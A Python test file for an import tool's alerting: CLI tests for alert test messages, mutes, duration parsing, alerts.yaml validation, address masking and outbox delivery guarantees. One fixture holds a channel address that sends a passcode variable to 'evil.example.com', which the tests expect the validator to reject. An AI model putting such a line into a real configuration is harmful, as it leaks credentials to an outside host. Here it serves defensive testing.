"""The commands for alerts, what check says of alerts.yaml, and laws of the outbox under kills."""

import json
import re
import socket
from collections import Counter
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clevertap_import.alerted import Memory, Message, Mute, Place
from clevertap_import.alerting.channels import address_problem, masked, send
from clevertap_import.alerting.delivery import NO_ANSWER, deliver
from clevertap_import.bounds import duration_of
from clevertap_import.check_tables import alerts_verdict
from clevertap_import.cli.main import main
from clevertap_import.errors import ConfigError
from clevertap_import.journal.alert_memory import enter_changes
from clevertap_import.journal.alert_tables import ALERT, ALERT_MESSAGE
from clevertap_import.journal.outbox import CLAIM, claim
from clevertap_import.journal.tables import open_database
from clevertap_import.monitoring.alert_messages import Links, message
from clevertap_import.monitoring.changes import changes
from clevertap_import.monitoring.concerns import Concern
from clevertap_import.monitoring.picture import ImportState
from clevertap_import.orchestration.listing import Filters, listing
from clevertap_import.project.alerts_file import Channel
from clevertap_import.project.folder import load_folder
from clevertap_import_tests.testing.alert_office import ALERTS, ON_SQLITE, OWNER, START, Office
from clevertap_import_tests.testing.alert_receivers import MailServer, Receiver, http_receiver

ROOT = Path(__file__).parents[2]


@pytest.fixture
def commands_office(office: Office, monkeypatch: pytest.MonkeyPatch) -> Office:
    """Commands find its imports and addresses in their environment. Now is now."""
    for name, value in office.environment.items():
        monkeypatch.setenv(name, value)
    office.now = datetime.now(UTC)
    return office


def command(*words: str) -> Result:
    done = CliRunner().invoke(main, words)
    assert isinstance(done.exception, SystemExit | None), done.exc_info
    return done


@ON_SQLITE
def test_a_test_message_reaches_every_channel_and_the_routes_are_shown(
    commands_office: Office, mail: MailServer, hook: Receiver
) -> None:
    commands_office.write("orders", created_by="team:orders", alerts={"to": ["owner"]})
    done = command("alerts", "test")
    assert done.exit_code == 0
    assert done.stdout.splitlines() == [
        "ok    hook: took the test message",
        f"ok    owner ({OWNER}): took the test message",
        f"      customers -> warning: owner ({OWNER}); error: hook, owner ({OWNER});"
        f" critical: hook, owner ({OWNER})",
        "      orders -> warning: nobody; error: nobody; critical: nobody",
    ]
    assert (mail.taken(), hook.titles()) == (
        [(OWNER, "[test] clevertap_import")],
        ["[test] clevertap_import"],
    )
    hook.status = 500
    mail.stop()
    done = command("alerts", "test", "--json")
    document = json.loads(done.stdout)
    assert (done.exit_code, document["ok"], document["problems"]) == (1, False, [])
    assert [(each["channel"], each["taken"], each["waiting"]) for each in document["channels"]] == [
        ("hook", False, 0),
        ("owner", False, 0),
    ]


@ON_SQLITE
def test_without_the_journal_nobody_says_that_nothing_waits_or_that_a_report_is_whole(
    commands_office: Office, tmp_path: Path, use_journal: Callable[[str], None]
) -> None:
    use_journal("postgresql+psycopg://someone:secret@127.0.0.1:1/none")
    done = command("alerts", "test", "--json")
    assert {each["waiting"] for each in json.loads(done.stdout)["channels"]} == {None}
    assert "How many messages wait is not known. The journal" in command("alerts", "test").stderr
    file = tmp_path / "report.html"
    done = command("report", "--output", str(file))
    assert (done.exit_code, file.exists()) == (1, True)
    assert f"The report in {file} lacks all runs. The journal" in done.stderr
    done = command("report", "--output", "-")
    assert (done.exit_code, done.stderr) == (
        2,
        "The report is written to a file, not to standard output. Give --output a name.\n",
    )


@ON_SQLITE
def test_without_any_address_the_test_says_that_nobody_gets_alerts(commands_office: Office) -> None:
    (commands_office.folder / "alerts.yaml").unlink()
    done = command("alerts", "test")
    assert done.exit_code == 1
    assert "Nobody gets an alert: there is no alerts.yaml" in done.stdout


def test_a_mute_is_shown_and_ends_by_command(commands_office: Office, mail: MailServer) -> None:
    done = command("mute", "customers", "--for", "4h", "--because", "The source moves.")
    assert (done.exit_code, done.stdout[:40]) == (0, "No alert about customers is sent until 2")
    (line,) = listing(
        commands_office.instance, load_folder(commands_office.folder), commands_office.folder, Filters()
    )
    until = datetime.fromisoformat(line["muted_until"])
    assert timedelta(hours=3, minutes=50) < until - commands_office.now < timedelta(hours=4, minutes=10)
    assert line["notes"] == [f"No alert is sent until {until:%Y-%m-%d %H:%M} UTC: The source moves."]
    commands_office.ran("Failed")
    commands_office.look()
    assert mail.taken() == []
    assert command("unmute", "customers").stdout == "Alerts about customers are sent again.\n"
    assert command("unmute", "customers").stdout == "customers is not mute.\n"
    commands_office.look()
    assert mail.taken() == [(OWNER, "[error] customers: failed")]


@ON_SQLITE
def test_a_mute_names_an_import_and_a_time(commands_office: Office) -> None:
    done = command("mute", "customer", "--for", "4h", "--because", "x")
    assert (done.exit_code, "Did you mean 'customers'?" in done.stderr) == (2, True)
    assert command("mute", "customers", "--for", "soon", "--because", "x").exit_code == 2
    assert command("mute", "customers", "--for", "1h", "--because", " ").exit_code == 2
    assert command("mute", "customers", "--for", "1h", "--because", "no\udcff text").exit_code == 2
    assert command("mute", "customers", "--for", "1h", "--because", "two\n lines").exit_code == 0
    (line,) = listing(
        commands_office.instance, load_folder(commands_office.folder), commands_office.folder, Filters()
    )
    assert line["notes"][0].endswith(" UTC: two lines")


@pytest.mark.parametrize(
    ("text", "expected"),
    [("30m", 30), ("4h", 240), ("4 hours", 240), ("1 hour", 60), ("2d", 2880), ("1w", 10080), (" 1H ", 60)],
)
def test_a_duration_is_typed_in_short(text: str, expected: int) -> None:
    assert duration_of(text) == timedelta(minutes=expected)


@pytest.mark.parametrize("text", ["", "4", "h", "0h", "-1h", "4x", "1.5h", "400d", "99999w"])
def test_what_is_no_duration_is_refused(text: str) -> None:
    with pytest.raises(ConfigError, match="is not a duration up to a year"):
        duration_of(text)


WRONG = """\
channels:
  hook: "json://${HOOK_PLACE}/"
  other: "${NO_SUCH_VARIABLE}"
  stolen: "json://evil.example.com/${CLEVERTAP_PASSCODE}"
  carrier: "pigeon://home"
  owner: "json://127.0.0.1/"
routes:
  - {to: [hook], severity: error}
"""


def problems(office: Office, text: str, environment: dict[str, str] | None) -> list[tuple[int, str]]:
    (office.folder / "alerts.yaml").write_text(text)
    imports = load_folder(office.folder)
    assert (len(imports.loaded), imports.drafts) == (1, ()), "it is no import"
    (found,), _ = alerts_verdict(imports, office.folder, environment)
    assert (found["nickname"], found["ok"]) == ("alerts.yaml", not found["problems"])
    return [(each["line"], each["key"] + ": " + each["message"]) for each in found["problems"]]


@ON_SQLITE
def test_check_names_each_problem_of_the_file_with_its_line(office: Office) -> None:
    assert problems(office, ALERTS, office.environment) == []
    assert problems(office, WRONG, None) == [], "without variables"
    found = problems(office, WRONG, office.environment)
    assert [line for line, _ in found] == [3, 4, 5, 6]
    for (_, said), words in zip(
        found,
        (
            "channels.other: The environment has no variable 'NO_SUCH_VARIABLE'.",
            "channels.stolen: ${CLEVERTAP_PASSCODE} belongs to a connection, an account or the journal.",
            "channels.carrier: Its address is none that apprise knows.",
            "channels.owner: The channel owner sends mail to the owner of each import.",
        ),
        strict=True,
    ):
        assert said.startswith(words)
    typing = ALERTS.replace("severity: error", "severity: eror").replace("routes:", "rotes:")
    assert [line for line, _ in problems(office, typing, None)] == [4]
    assert problems(office, typing, None)[0][1].startswith(
        "rotes: 'rotes' is not a key here. Did you mean 'routes'"
    )
    assert problems(office, "channels: {a: [", None)[0][1].startswith(": This line is not YAML")
    assert problems(office, "", None)[0][1].startswith(": The file is empty.")


SECRET = "slack://token/in/wrong/place"
MISPLACED = (
    f"channels: '{SECRET}'",
    f"'{SECRET}'",
    f"channels: {{'{SECRET}': a}}",
    f"channels: {{a: '${{{SECRET}}}'}}",
    f"channels: {{a: b}}\nroutes: [{{to: ['{SECRET}']}}]",
    f"channels: {{a: b}}\nroutes: ['{SECRET}']",
    f"channels: {{a: b}}\nroutes: [{{to: [a], severity: '{SECRET}'}}]",
)


@ON_SQLITE
def test_an_address_in_the_wrong_place_is_not_repeated(office: Office) -> None:
    said = [found for text in MISPLACED for found in problems(office, text, {})]
    assert len(said) == len(MISPLACED)
    assert [text for _, text in said if "token" in text or "kind" in text] == []


@ON_SQLITE
def test_an_import_that_names_no_channel_is_a_problem_of_that_import_and_runs(office: Office) -> None:
    office.write(alerts={"to": ["hok"]})
    done = CliRunner().invoke(main, ["check", "--offline", "--json"], env=office.environment)
    found = {each["nickname"]: each for each in json.loads(done.stdout)["imports"]}
    assert (done.exit_code, found["alerts.yaml"]["ok"], found["customers"]["ok"]) == (1, True, False)
    (problem,) = found["customers"]["problems"]
    assert problem["key"] == "alerts.to[0]"
    assert problem["message"].startswith("'hok' is not a channel. Did you mean 'hook'?")
    assert len(load_folder(office.folder).loaded) == 1


@ON_SQLITE
def test_a_server_that_takes_no_step_holds_up_nothing(office: Office, hook: Receiver) -> None:
    with socket.create_server(("127.0.0.1", 0)) as hanging:
        office.environment["MAIL_URL"] = f"mailto://127.0.0.1:{hanging.getsockname()[1]}?from=a@example.com"
        office.ran("Failed")
        channels = {"hook": Channel("hook", f"json://{hook.place}/")}
        channels["owner"] = Channel("owner", office.environment["MAIL_URL"])
        engine = open_database(f"sqlite:///{office.folder.parent / 'other.db'}")
        lines = [
            Message(Place("hook"), "error", "one", "It is one."),
            Message(Place("owner", OWNER), "error", "two", "It is two."),
        ]
        enter_changes(engine, lambda memory, _: (lines, memory), START)
        found = deliver(engine, channels, START, seconds=1.0)
    assert (found.sent, found.refused) == (1, {Place("owner", OWNER): NO_ANSWER})
    assert hook.titles() == ["one"]


def test_the_addresses_of_the_page_are_known_to_apprise() -> None:
    page = (ROOT / "docs" / "alerts.md").read_text()
    table = page.partition("| to | address |")[2].partition("\n\n")[0]
    addresses = re.findall(r"`(\w+://[^`]+)`", table)
    assert len(addresses) == 6
    assert {each: address_problem(Channel("ops", each)) for each in addresses} == dict.fromkeys(addresses)


def test_a_refusal_shows_no_part_of_the_address() -> None:
    address = "slack://T1/B2B/s3cr%2Ft?from=a@example.com"
    said = "No answer from T1.example.com of B2B with s3cr%2Ft for a@example.com."
    assert masked(said, address) == "No answer from T1.*** of *** with *** for a@***."


KINDS = ("failed", "late", "open_rejects")
STEPS = st.tuples(
    st.sets(st.sampled_from(KINDS)), st.sampled_from(["well", "not sent", "not marked", "away"])
)


@pytest.fixture(scope="module")
def outbox(tmp_path_factory: pytest.TempPathFactory) -> Any:  # noqa: ANN401 - an engine and a receiver
    folder: Path = tmp_path_factory.mktemp("outbox")
    engine = open_database(f"sqlite:///{folder / 'journal.db'}")
    with http_receiver() as receiver:
        yield engine, receiver
    engine.dispose()


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(STEPS, min_size=1, max_size=5))
def test_each_change_is_sent_once_and_again_only_if_a_process_was_killed_before_it_could_mark_it(
    outbox: tuple[sa.Engine, Receiver], steps: list[tuple[set[str], str]]
) -> None:
    engine, receiver = outbox
    with engine.begin() as connection:
        connection.execute(ALERT.delete())
        connection.execute(ALERT_MESSAGE.delete())
    channels = {"hook": Channel("hook", f"json://{receiver.place}/")}
    now, expected, twice, before = START, Counter[str](), Counter[str](), set[str]()
    receiver.received.clear()
    for kinds, end in [*steps, (set(), "well")]:
        now += CLAIM + timedelta(minutes=15)
        state = ImportState(
            "customers", "Scheduled", concerns=tuple(a_concern(each) for each in sorted(kinds))
        )

        def compare(
            memory: Memory, _: Sequence[Mute], state: ImportState = state, now: datetime = now
        ) -> tuple[Sequence[Message], Memory]:
            found, after = changes(memory, [state], now)
            return [message(each, state, Links(), Place("hook"), now) for each in found], after

        enter_changes(engine, compare, now)
        expected.update(f"[error] customers: {kind.replace('_', ' ')}" for kind in kinds - before)
        expected.update(f"[recovered] customers: {kind.replace('_', ' ')}" for kind in before - kinds)
        before = kinds
        receiver.status = 503 if end == "away" else 200
        if end in ("well", "away"):
            deliver(engine, channels, now)
        for claimed in claim(engine, channels, now).values() if end in ("not sent", "not marked") else ():
            if end == "not marked":
                twice.update(each.message.title for each in claimed)
                assert [send(channels["hook"], each.message) for each in claimed] == [None] * len(claimed)
    text = "\n".join(f"{each['title']}\n{each['message']}" for each in receiver.received).splitlines()
    received = Counter(
        line for line in text if line.startswith(("[error] customers", "[recovered] customers"))
    )
    assert received == expected + twice


def a_concern(kind: Any) -> Concern:  # noqa: ANN401 - one of the kinds
    return Concern(kind, "error", f"It is {kind}.", "Correct it.")
